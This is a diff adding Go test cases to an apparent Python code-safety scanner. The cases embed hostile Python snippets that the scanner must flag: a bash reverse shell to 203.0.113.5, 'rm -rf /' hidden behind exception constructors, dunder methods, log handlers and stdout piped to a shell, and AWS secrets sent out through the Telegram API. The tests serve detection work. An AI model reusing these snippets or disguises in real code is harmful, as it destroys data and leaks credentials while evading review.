@@ -128,3 +128,43 @@ func TestCommandsAsData(t *testing.T) {
 		{"reverse shell run from a list", "import subprocess\nR = ['bash -i >& /dev/tcp/203.0.113.5/4444 0>&1']\nsubprocess.Popen(R[0], shell=True)\n", "codesafety.reverse-shell", 2},
 	})
 }
+
+// TestCommandsAsDataHooks checks that a command string's "data" use does not exempt it
+// when the module itself defines what that use runs: an exception class of its own whose
+// constructor runs its argument, a __getitem__, __missing__ or comparison method that
+// runs the key or operand, output redirected to a shell so that print or logging writes
+// into it, or the value read back under another name (from __main__, the module's source).
+func TestCommandsAsDataHooks(t *testing.T) {
+	checkExemptions(t, []exemptionCase{
+		{"own exception class runs it", "import os\nclass RunError(Exception):\n    def __init__(self, c):\n        os.system(c)\nraise RunError('rm -rf / --no-preserve-root')\n", "codesafety.destructive", 5},
+		{"own exception base runs it", "import os\nclass B(Exception):\n    def __init__(self, c):\n        os.system(c)\nclass RunError(B):\n    pass\nRunError('rm -rf /')\n", "codesafety.destructive", 7},
+		{"__getitem__ runs the key", "import os\nclass R:\n    def __getitem__(self, k):\n        os.system(k)\nR()['rm -rf /']\n", "codesafety.destructive", 5},
+		{"__missing__ runs the key", "import os\nclass D(dict):\n    def __missing__(self, k):\n        os.system(k)\n        return 1\nD()['rm -rf /']\n", "codesafety.destructive", 6},
+		{"__eq__ runs the operand", "import os\nclass R:\n    def __eq__(self, k):\n        os.system(k)\n        return True\nC = ['rm -rf /']\nR() == C[0]\n", "codesafety.destructive", 6},
+		{"__contains__ runs the operand", "import os\nclass R:\n    def __contains__(self, k):\n        os.system(k)\n        return True\nC = ['rm -rf /']\nif C[0] in R():\n    pass\n", "codesafety.destructive", 6},
+		{"from __main__ import", "import os\nCMDS = ['rm -rf /']\nif 'x' in CMDS:\n    pass\nfrom __main__ import CMDS as X\nos.system(X[0])\n", "codesafety.destructive", 2},
+		{"own source read back", "import os\nB = ['rm -rf /']\nprint(B)\nsrc = open(__file__).read()\nos.system(src.split(\"'\")[1])\n", "codesafety.destructive", 2},
+		{"print into a shell", "import sys, subprocess\np = subprocess.Popen(['sh'], stdin=subprocess.PIPE, text=True)\nsys.stdout = p.stdin\nprint('rm -rf / --no-preserve-root')\n", "codesafety.destructive", 4},
+		{"logging into a shell", "import logging, subprocess\np = subprocess.Popen(['sh'], stdin=subprocess.PIPE, text=True)\nlogging.basicConfig(stream=p.stdin, format='%(message)s')\nlogging.warning('rm -rf / --no-preserve-root')\n", "codesafety.destructive", 4},
+		{"log handler runs it", "import logging, os\nclass H(logging.Handler):\n    def emit(self, r):\n        os.system(r.getMessage())\nlogging.getLogger().addHandler(H())\nlogging.warning('rm -rf /')\n", "codesafety.destructive", 6},
+		// Still data: an exception class without methods, a plain comparison.
+		{"plain exception class", "class RefusedError(Exception):\n    pass\ndef check(cmd):\n    if cmd == 'rm -rf /':\n        raise RefusedError('rm -rf / is refused')\n", "", 0},
+	})
+}
+
+// TestServiceAuthenticationMutatedParams checks that a params= dict changed other than by
+// an item assignment (update, setdefault, an alias), or a credential's default read from
+// another variable, is not taken for authentication to the credential's service.
+func TestServiceAuthenticationMutatedParams(t *testing.T) {
+	const tg = "import os, requests\nT = os.environ['TELEGRAM_BOT_TOKEN']\nA = os.environ['AWS_SECRET_ACCESS_KEY']\n"
+	const send = "requests.get(f'https://api.telegram.org/bot{T}/sendMessage', params=p)\n"
+	checkExemptions(t, []exemptionCase{
+		{"params updated", tg + "p = {'token': T}\np.update(text=A)\n" + send, "codesafety.exfiltration", 6},
+		{"params updated from a dict", tg + "p = {'token': T}\np.update({'text': A})\n" + send, "codesafety.exfiltration", 6},
+		{"params setdefault", tg + "p = {'token': T}\np.setdefault('text', A)\n" + send, "codesafety.exfiltration", 6},
+		{"params through an alias", tg + "p = {'token': T}\nq = p\nq['text'] = A\n" + send, "codesafety.exfiltration", 7},
+		{"another secret as the default", tg + "requests.get(f\"https://api.telegram.org/bot{os.getenv('TELEGRAM_BOT_TOKEN', A)}/getMe\")\n", "codesafety.exfiltration", 4},
+		// Still authentication: the dict only read as params= and for its items.
+		{"params read", tg + "p = {'token': T, 'chat_id': 1}\nif p['chat_id']:\n    " + send, "", 0},
+	})
+}
